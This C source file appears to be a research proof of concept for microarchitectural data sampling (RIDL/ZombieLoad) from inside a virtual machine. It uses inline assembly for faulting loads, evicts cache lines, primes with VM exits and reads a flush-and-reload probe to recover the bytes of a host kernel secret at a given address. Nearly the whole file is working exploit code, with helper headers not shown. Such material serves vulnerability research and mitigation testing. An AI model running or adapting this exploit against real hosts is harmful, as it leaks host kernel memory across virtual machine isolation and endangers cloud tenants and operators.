/*
 * Microarchitectural data sampling from a virtual machine (van Schaik et al., "RIDL"; Schwarz et al.,
 * "ZombieLoad", 2019): neither exit nor entry of a virtual machine clears the buffers through which
 * cache lines pass, so a load inside that faults receives bytes of lines that the host's kernel has
 * read last. Here the kernel uses the secret whenever a virtual machine exits.
 */
#include "buffers.h"
#include "fault.h"
#include "machine.h"

enum {
	WARMING_EXITS = 3,
	FIRST_LEVEL_PAGES = 16,	/* 64 KiB: twice the first-level caches of affected processors */
};

/* Inside, where there is no memory, and no table that leads to any. */
static const uint8_t *const unmapped = (const uint8_t *)(3ULL << 40);

static struct machine machine;

/* Inside: the address of the secret's byte in the kernel, and what was seen. */
static uint64_t secret;
static int shown;

/*
 * As in ridl: the secret's line is evicted after its user is warm, so that it comes in anew, and last.
 */
static void sample_inside(void)
{
	for (int i = 0; i < WARMING_EXITS; i++)
		exit_to_host();
	displace(secret, FIRST_LEVEL_PAGES);
	flush_probe(probe);
	touch(elsewhere);
	touch(elsewhere + PAGE_BYTES);
	memory_fence();

	register const uint8_t *address_register __asm__("r9") = unmapped + place;
	register const uint8_t *probe_register __asm__("r8") = probe;
	register uint64_t known_register __asm__("r10") = known;
	register const uint8_t *elsewhere_register __asm__("r11") = elsewhere;

	__asm__ volatile(
		RESUME_AT_9
		"xor %%eax, %%eax\n\t"
		"xor %%ecx, %%ecx\n\t"
		"cpuid\n\t"
		KEEP_FROM_RETIRING
		TWELVE_TIMES(SAMPLE_BUFFER)
		RESUMED
		:
		: [address] "r"(address_register), [probe] "r"(probe_register), [known] "r"(known_register),
		  [elsewhere] "r"(elsewhere_register)
		: "rax", "rbx", "rcx", "rdx", "memory", "cc");
	shown = reload_probe(probe);
}

static int sample(int index)
{
	*IN_MACHINE(&machine, secret) = options.address + index;
	*IN_MACHINE(&machine, place) = place_of_load(index);
	*IN_MACHINE(&machine, known) = known_before(index);
	machine_run(&machine, sample_inside);
	return *IN_MACHINE(&machine, shown);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	calibrate();
	probe = own_probe();
	memset(elsewhere, 1, sizeof(elsewhere));
	machine_create(&machine);
	recover_in_order(sample);
	return 0;
}
